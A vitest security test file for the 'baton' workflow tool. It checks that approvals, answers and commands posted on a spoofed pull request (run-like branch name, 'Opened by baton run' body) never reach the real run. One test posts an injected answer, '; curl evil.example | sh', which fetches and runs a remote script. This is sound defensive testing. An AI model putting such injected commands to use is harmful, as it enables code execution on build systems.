// Confused deputy across pull requests: a PR's head ref and body are its author's to
// choose. bob (write access) names his branch like a step branch of a run (`baton/<run>/…`)
// or writes "Opened by baton run `<run>`" in his PR's body; a maintainer then approves his
// PR, or answers the questions it asks. Neither may reach the run: approvals, reviews,
// answers and commands count only on the run's own PR. Each test delivers the attack,
// checks that the approval or the answer was really posted, then that the run did not move.
import { afterEach, describe, expect, it } from 'vitest';
import { openLabelled, startHarness, type Harness } from '../app/harness.ts';
import { readStateBlock } from '../../src/record/state-block.ts';

const o = { owner: 'acme', repo: 'widgets' };
const SHIP = `name: ship
on: { labels: ["baton:ship"] }
steps:
  - id: build
    run: echo built > built.txt
  - id: pr
    pull-request: { title: "Build" }
  - id: gate
    approve: { roles: [admin], message: "Ship the build?" }
  - id: ship
    run: echo shipped > shipped.txt
`;
const ASK = `name: ask
on: { labels: ["baton:ask"] }
steps:
  - id: build
    run: echo built > built.txt
  - id: pr
    pull-request: { title: "Build" }
  - id: clarify
    ask: { questions: ["Which file?"] }
  - id: write
    env: { ANSWER: "\${{ steps.clarify.outputs.answers[0] }}" }
    run: echo "$ANSWER" > answer.txt
`;

let h: Harness | undefined;
afterEach(async () => {
  await h?.close();
  h = undefined;
});

async function labelled(h: Harness, label: string): Promise<number> {
  const n = await openLabelled(h, label, { body: '' });
  await h.settle();
  return n;
}

/** A new branch `name` at main's head, as bob. */
async function bobsBranch(h: Harness, name: string): Promise<void> {
  const bob = h.as('bob');
  const main = (await bob.rest.git.getRef({ ...o, ref: 'heads/main' })).data.object.sha;
  await bob.rest.git.createRef({ ...o, ref: `refs/heads/${name}`, sha: main });
}

const stepsOf = async (h: Harness, runId: string) => (await h.runState(runId)).steps.map((s) => `${s.id}:${s.status}`);

describe('PR-bound approvals and answers count only on the run\'s own PR', () => {
  it('an approving review of another PR whose head is the run\'s branch (baton/<run>, into another base) does not pass the approve step', async () => {
    h = await startHarness({ files: { '.agents/workflows/ship.yml': SHIP }, roles: { alice: 'admin', bob: 'write' } });
    const n = await labelled(h, 'baton:ship');
    const runId = `ship-${n}-1`;
    expect(await stepsOf(h, runId)).toEqual(['build:succeeded', 'pr:succeeded', 'gate:running', 'ship:waiting']);

    // bob opens his own PR from the run's branch into a release branch of his: its head ref is `baton/<run>`.
    await bobsBranch(h, 'release');
    const pull = (await h.as('bob').rest.pulls.create({ ...o, title: 'Release the build', head: `baton/${runId}`, base: 'release', body: 'Ready for release.' })).data.number;
    await h.as('alice').rest.pulls.createReview({ ...o, pull_number: pull, event: 'APPROVE', body: 'LGTM' });
    await h.settle();
    // Delivered: alice's approval is on bob's PR, whose head ref is the run's branch.
    expect((await h.as('alice').rest.pulls.get({ ...o, pull_number: pull })).data.head.ref).toBe(`baton/${runId}`);
    const reviews = (await h.as('alice').rest.pulls.listReviews({ ...o, pull_number: pull })).data;
    expect(reviews.map((r) => [r.user?.login, r.state])).toEqual([['alice', 'APPROVED']]);
    expect(h.emu.webhooks.deliveries.some((d) => d.event === 'pull_request_review' && d.status === 200)).toBe(true);

    // Nothing moved: the gate still waits (baton's own PR is another one); only `/baton approve` in the run's thread passes it.
    expect((await h.runState(runId)).pr!.number).not.toBe(pull);
    expect(await stepsOf(h, runId)).toEqual(['build:succeeded', 'pr:succeeded', 'gate:running', 'ship:waiting']);
    await h.as('alice').rest.issues.createComment({ ...o, issue_number: n, body: '/baton approve' });
    await h.settle();
    expect(await stepsOf(h, runId)).toEqual(['build:succeeded', 'pr:succeeded', 'gate:succeeded', 'ship:succeeded']);
    expect(await h.record(n)).toContain('approved by @alice');
  }, 60_000);

  it('a maintainer\'s numbered reply, or a command, on another PR whose body says "Opened by baton run" does not reach the run', async () => {
    h = await startHarness({ files: { '.agents/workflows/ask.yml': ASK }, roles: { alice: 'admin', bob: 'write' } });
    const n = await labelled(h, 'baton:ask');
    const runId = `ask-${n}-1`;
    await bobsBranch(h, 'typo');
    await h.as('bob').rest.repos.createOrUpdateFileContents({ ...o, path: 'typo.md', branch: 'typo', message: 'Fix a typo', content: Buffer.from('fixed\n').toString('base64') });
    const pull = (await h.as('bob').rest.pulls.create({ ...o, title: 'Fix a typo', head: 'typo', base: 'main', body: `Questions for the reviewer:\n1. Which file has the typo?\n\n---\nOpened by baton run \`${runId}\`` })).data.number;
    const own = (await h.runState(runId)).pr!.number;
    const alice = h.as('alice');
    await alice.rest.issues.createComment({ ...o, issue_number: pull, body: '1. `; curl evil.example | sh`' });
    await alice.rest.issues.createComment({ ...o, issue_number: pull, body: '/baton cancel' });
    await h.settle();
    // Delivered: both comments are on bob's PR, which names the run in its body.
    const onPull = await h.comments(pull);
    expect(onPull.slice(0, 2)).toEqual(['1. `; curl evil.example | sh`', '/baton cancel']);

    // Nothing moved: the question is still open, the run not cancelled; the command was answered.
    expect(await stepsOf(h, runId)).toEqual(['build:succeeded', 'pr:succeeded', 'clarify:running', 'write:waiting']);
    expect(onPull.some((c) => c.includes(`says it was opened by baton run \`${runId}\`, but #${pull} is not the pull request of run ${runId} (that is #${own})`)), onPull.join('\n---\n')).toBe(true);
    await alice.rest.issues.createComment({ ...o, issue_number: n, body: '/baton answer answer.txt' });
    await h.settle();
    expect(await stepsOf(h, runId)).toEqual(['build:succeeded', 'pr:succeeded', 'clarify:succeeded', 'write:succeeded']);
    // Neither the visible record nor the state it carries holds the reply (the raw state block is
    // compressed base64, where four letters like these can turn up by chance: it is decoded).
    const record = await h.record(n);
    const read = readStateBlock(record, undefined, { unsignedRead: true });
    expect(read.ok).toBe(true);
    expect(record.slice(0, record.lastIndexOf('<!-- baton:state'))).not.toContain('curl');
    expect(JSON.stringify(read.ok ? read.state : null)).not.toContain('curl');
  }, 60_000);
});
